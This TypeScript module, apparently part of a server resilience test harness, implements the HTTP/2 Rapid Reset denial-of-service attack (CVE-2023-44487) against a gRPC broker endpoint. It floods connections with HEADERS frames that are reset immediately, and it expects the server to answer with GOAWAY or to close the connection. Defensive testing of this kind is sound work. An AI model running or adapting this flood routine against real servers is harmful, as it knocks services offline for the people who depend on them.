import { END_HEADERS, frame, HEADERS, resetFrame } from '../../swarm/http2-frames.js';
import { type Attack, OutcomeCounter, PATIENCE_MS, repeat } from '../attack.js';
import { AttackerConnection } from '../attacker-connection.js';
import { callHeaders } from '../hpack.js';

/** Streams that one connection opens and resets unless it is closed before. */
const STREAMS_PER_CONNECTION = 10_000;
const STREAMS_PER_WRITE = 100;

const CALL = callHeaders('/waybill.v1.BrokerService/Subscribe');

/** Opens and resets streams as fast as the connection takes them. */
export const rapidReset: Attack = {
  name: 'rapid-reset',
  description: 'streams that are opened and reset at once (CVE-2023-44487)',
  quick: 10_000,
  full: 100_000,
  expected: /^GOAWAY (INTERNAL_ERROR|ENHANCE_YOUR_CALM|NO_ERROR)$|^closed$/,
  async run(target, attempts) {
    const counter = new OutcomeCounter();
    let left = attempts;
    await repeat(Math.ceil(attempts / 1000), 4, async () => {
      if (left <= 0) return;
      const connection = await AttackerConnection.open(target);
      let sent = 0;
      while (!connection.isClosed && connection.goaway === undefined && sent < STREAMS_PER_CONNECTION) {
        const frames: Buffer[] = [];
        for (let i = 0; i < STREAMS_PER_WRITE; i++) {
          const stream = 2 * sent++ + 1;
          frames.push(frame(HEADERS, END_HEADERS, stream, CALL), resetFrame(stream));
        }
        await connection.send(Buffer.concat(frames));
        // What the server answers is read in between.
        await new Promise((resolve) => setImmediate(resolve));
      }
      left -= sent;
      counter.add(await connection.ending(PATIENCE_MS));
      connection.destroy();
    });
    return counter.outcomes;
  },
};
